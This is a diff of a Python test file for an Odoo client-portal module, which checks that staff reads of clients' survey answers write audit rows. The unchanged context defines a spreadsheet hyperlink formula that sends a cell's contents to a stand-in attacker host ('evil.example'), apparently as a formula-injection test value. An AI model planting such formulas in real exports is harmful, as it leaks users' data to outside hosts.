@@ -10,6 +10,8 @@ from odoo.tools import mute_logger
 from .common import PDF_BYTES, PNG_BYTES, SereneCase, SereneRpcMixin
 
 ANSWERS_REPORT = "serene_client_portal.report_survey_answers"
+# What the answers' form view asks for: the lines are the client's answers.
+ANSWERS_FORM = {"state": {}, "user_input_line_ids": {"fields": {"display_name": {}}}}
 HYPERLINK = '=HYPERLINK("http://evil.example/?"&B2,"Open")'
 
 
@@ -108,8 +110,18 @@ class TestAuditOfReads(SereneRpcMixin, SereneCase, HttpCase):
     def test_staff_reading_a_clients_answers_writes_one_row_each(self):
         self.authenticate("t_team", "t_team")
         before = self._rows("answers_viewed")
-        result = self.rpc("survey.user_input", "web_read", self.answer.ids, specification={"state": {}})
-        self.assertEqual(result["result"][0]["state"], "done")
+        # The answers' list (scores, states) is not a reading of the answers; their form is.
+        listed = self.rpc(
+            "survey.user_input",
+            "web_search_read",
+            None,
+            domain=[("id", "=", self.answer.id)],
+            specification={"state": {}},
+        )
+        self.assertEqual(listed["result"]["records"][0]["state"], "done")
+        self.assertEqual(self._rows("answers_viewed"), before)
+        result = self.rpc("survey.user_input", "web_read", self.answer.ids, specification=ANSWERS_FORM)
+        self.assertTrue(result["result"][0]["user_input_line_ids"])
         before = self._assert_one_new_row("answers_viewed", before, self.form, self.user_team) | before
 
         survey_token = self.answer.survey_id.access_token
@@ -126,9 +138,7 @@ class TestAuditOfReads(SereneRpcMixin, SereneCase, HttpCase):
     def test_refused_answers_write_no_row(self):
         self.authenticate("t_other", "t_other")
         rows = self._rows("answers_viewed") | self._rows("answers_printed")
-        self.assertTrue(
-            self.rpc("survey.user_input", "web_read", self.answer.ids, specification={"state": {}})["error"]
-        )
+        self.assertTrue(self.rpc("survey.user_input", "web_read", self.answer.ids, specification=ANSWERS_FORM)["error"])
         survey_token = self.answer.survey_id.access_token
         response = self.url_open(f"/survey/print/{survey_token}?answer_token={self.answer.access_token}&review=True")
         self.assertNotIn("Tired but hopeful", response.text)
